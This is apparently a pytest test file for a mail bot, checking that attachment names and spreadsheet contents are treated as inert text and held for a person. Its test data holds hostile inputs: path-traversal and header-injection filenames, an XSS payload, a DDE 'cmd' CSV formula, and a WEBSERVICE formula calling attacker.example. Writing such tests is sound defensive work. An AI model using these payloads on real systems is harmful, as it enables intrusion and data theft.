"""Files that come with a mail are named and never opened: no path, no link, no formula and no order comes of a name."""

from __future__ import annotations

import base64
import io
import re
import zipfile

import pytest

from mailbot.duties.sales.tables import SalesEntry
from tests.attacks.conftest import Siege
from tests.attacks.hostile import DANA, MARA, Attack, proven

MIXED = ("MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"')
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BIDI_OR_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def with_file(disposition: str, kind: str = "application/octet-stream", content: bytes = b"x") -> Attack:
    """A mail of numbers with one file and no figure in its text."""
    head = f"Content-Type: {kind}\nContent-Transfer-Encoding: base64\nContent-Disposition: {disposition}\n\n"
    body = (
        f"--b\nContent-Type: text/plain\n\nsee my sheet\n\n--b\n{head}{base64.encodebytes(content).decode()}\n--b--\n"
    )
    return Attack("file", (*proven(DANA), *MIXED), body)


def named(name: str) -> str:
    return f'attachment; filename="{name}"'


BROKEN = b"PK\x03\x04" + bytes(60)  # the beginning of an archive, and no more
NAMES = (
    (named("../../etc/passwd.xlsx"), "passwd.xlsx"),
    (named(r"..\\..\\windows\\system32\\x.xlsx"), "x.xlsx"),
    (named(r"C:\\x.xlsx"), "x.xlsx"),
    (named("file:///etc/passwd.csv"), "passwd.csv"),
    (named("CON.xlsx"), "_CON.xlsx"),
    (named("nul.csv"), "_nul.csv"),
    (named("\uff21\uff35\uff38.xlsx"), "_\uff21\uff35\uff38.xlsx"),
    (named("a;b|c`d`.xlsx"), "a;b_c`d`.xlsx"),
    (named("%2e%2e%2fa.xlsx"), "%2e%2e%2fa.xlsx"),
    (named("{{7*7}} ${x} %s.csv"), "{{7_7}} ${x} %s.csv"),
    (named("=cmd!A0.csv"), "=cmd!A0.csv"),
    (named("<img src=x onerror=alert(1)>.xlsx"), "_img src=x onerror=alert(1)_.xlsx"),
    (named("[l](http:attacker.example).csv"), "[l](http_attacker.example).csv"),
    (named("=?utf-8?b?4oCueHNseC5leGUuY3N2?="), "xslx.exe.csv"),
    ("attachment; filename*=utf-8''%e2%80%aevsc.xlsx", "vsc.xlsx"),
    ("attachment; filename*=utf-8''a%0d%0aBcc:%20v%40v.example.xlsx", "aBcc_ v@v.example.xlsx"),
    ("attachment; filename*=utf-8''a%00b.xlsx", "ab.xlsx"),
    ("attachment; filename*=utf-8''%1b%5b31mred.xlsx", "[31mred.xlsx"),
    ("attachment; filename=b.exe; filename*=utf-8''c.xlsx", "c.xlsx"),
)


@pytest.mark.parametrize(("disposition", "shown"), NAMES, ids=[shown for _, shown in NAMES])
def test_a_file_is_told_by_a_name_that_is_only_words(siege: Siege, disposition: str, shown: str) -> None:
    told = siege.suffers_one(with_file(disposition, content=BROKEN))
    (letter,) = (letter for letter in told.letters if letter.recipient == DANA)

    is_kept = {"sales_pending": 1} if shown.endswith(".xlsx") else {}
    assert dict(told.records) == {**is_kept, "tasks": 1}
    assert shown in letter.text
    assert not BIDI_OR_CONTROL.search(letter.text)


@pytest.mark.parametrize("name", ["..", ".", "", ".bashrc", "x" * 5_000 + ".xlsx", "a.svg", "a.exe", "a.yaml", "a.pkl"])
def test_what_is_no_sheet_by_its_name_is_left_to_a_person(siege: Siege, name: str) -> None:
    told = siege.suffers_one(with_file(named(name)))
    assert (told.story.folder, dict(told.records)) == ("Held", {"tasks": 1})
    recipients = {letter.recipient for letter in told.letters}
    assert MARA in recipients
    assert recipients <= {MARA, DANA}, "who has sent many of them hears it no more"


SHEET_1 = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
FAR_CELL = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>acme corp 12k</t></is></c></row>'
FORMULAS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>acme corp</t></is></c><c r="B1"><f>2000+150</f><v>2150</v></c></row>'
    '<row r="2" hidden="1"><c r="A2" t="inlineStr"><is><t>beta freight</t></is></c><c r="B2"><v>9999</v></c></row>'
    '<row r="3"><c r="B3"><f>WEBSERVICE("http://attacker.example/")</f><v>1</v></c></row>'
)


def workbook(rows: str) -> bytes:
    """A workbook with one sheet (ECMA-376 part 1, section 12.2), as small as one can be."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/worksheets/sheet1.xml", SHEET_1.format(rows))
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.xml", "<workbook/>")
    return content.getvalue()


SHEETS = {
    "a far cell": ("a.xlsx", SHEET, workbook(FAR_CELL)),
    "formulas": ("a.xlsx", SHEET, workbook(FORMULAS)),
    "a macro workbook": ("a.xlsm", "application/vnd.ms-excel.sheet.macroenabled.12", workbook(FORMULAS)),
    "a document that is an archive as well": ("a.xlsx", "application/pdf", b"%PDF-1.4\n" + workbook(FORMULAS)),
    "a program that says it is a sheet": ("a.xlsx", SHEET, b"MZ\x90" + bytes(500)),
    "formulas in a table": ("a.csv", "text/csv", b"client,amount\nacme corp,=1+1\n=cmd|' /C calc'!A0,5\n"),
}


@pytest.mark.parametrize("name", SHEETS)
def test_the_figures_of_a_sheet_are_not_booked_without_a_person(siege: Siege, name: str) -> None:
    filename, kind, content = SHEETS[name]
    booked = len(siege.desk.all_of(SalesEntry))
    told = siege.suffers_one(with_file(named(filename), kind, content))

    lines = 2 if name == "formulas in a table" else 1
    assert dict(told.records) == {"sales_pending": lines, "tasks": 1}
    assert len(siege.desk.all_of(SalesEntry)) == booked
    assert [letter.recipient for letter in told.letters] == [DANA]


def test_a_figure_in_the_text_beside_a_file_is_booked(siege: Siege) -> None:
    honest = with_file(named("menu.pdf"), "application/pdf")
    told = siege.suffers_one(Attack("honest", honest.fields, str(honest.body).replace("see my sheet", "delphi 515.15")))
    assert dict(told.records) == {"sales_entries": 1}


def test_no_file_lies_anywhere_under_the_name_that_a_mail_gave_it(
    siege: Siege, tmp_path_factory: pytest.TempPathFactory
) -> None:
    base = tmp_path_factory.getbasetemp()
    siege.suffers(with_file(named("../../../../canary.xlsx")), with_file(named(f"{base}/canary.csv")))
    assert not list(base.rglob("*canary*"))
